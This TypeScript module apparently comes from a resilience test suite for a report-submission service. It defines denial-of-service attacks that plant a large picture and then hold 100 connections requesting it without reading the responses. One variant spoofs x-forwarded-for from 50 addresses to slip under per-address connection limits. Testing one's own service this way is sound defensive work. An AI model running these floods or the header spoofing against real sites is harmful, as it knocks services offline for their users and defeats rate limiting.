import { setTimeout as wait } from "node:timers/promises";
import { type Attack, type AttackCounts, type AttackOrder, attackerAddress, scaled } from "./attack.ts";
import { largestFile, pictureOf } from "./pictures.ts";
import { countAndClose, openAll, requestHead } from "./raw-connection.ts";
import {
  expectStatus,
  firstFileOf,
  honestReport,
  type Receipt,
  readReport,
  submitReport,
  uploadPicture,
} from "./requests.ts";

/** Submits a report with the largest allowed picture. Returns the picture's signed link. */
export async function plantLargePicture(order: AttackOrder): Promise<string> {
  const sender = { url: order.url, key: order.siteKey, address: attackerAddress(order, 0) };
  const uploaded = expectStatus(await uploadPicture(sender, pictureOf(largestFile)), 201, "upload");
  const submitted = await submitReport(sender, { ...honestReport, attachmentIds: [uploaded.id] });
  const receipt = expectStatus(submitted, 201, "submit") as unknown as Receipt;
  const link = firstFileOf(await readReport(sender, receipt));
  if (link === undefined) throw new Error("The report has no link to its picture.");
  return link;
}

/** Requests the same 10 MB picture on 100 connections and never reads the responses. */
export const unreadResponses: Attack = {
  name: "unread-responses",
  async prepare(order) {
    const link = await plantLargePicture(order);
    return () => askOnAll(order, link, 1);
  },
};

/** The same attack from 50 addresses, each of which stays below the connection limit per address. */
export const unreadResponsesOfMany: Attack = {
  name: "unread-responses-50",
  async prepare(order) {
    const link = await plantLargePicture(order);
    return () => askOnAll(order, link, 50);
  },
};

/** Requests the picture on every connection, from this many addresses. */
async function askOnAll(order: AttackOrder, link: string, addresses: number): Promise<AttackCounts> {
  const until = performance.now() + order.seconds * 1000;
  const connections = await openAll(order.url, scaled(order, 100), () => ({ reads: false }));
  for (const [index, connection] of connections.entries())
    await connection.send(
      requestHead("GET", link, { "x-forwarded-for": attackerAddress(order, index % addresses) }),
    );
  await wait(Math.max(0, until - performance.now()));
  return countAndClose(connections);
}
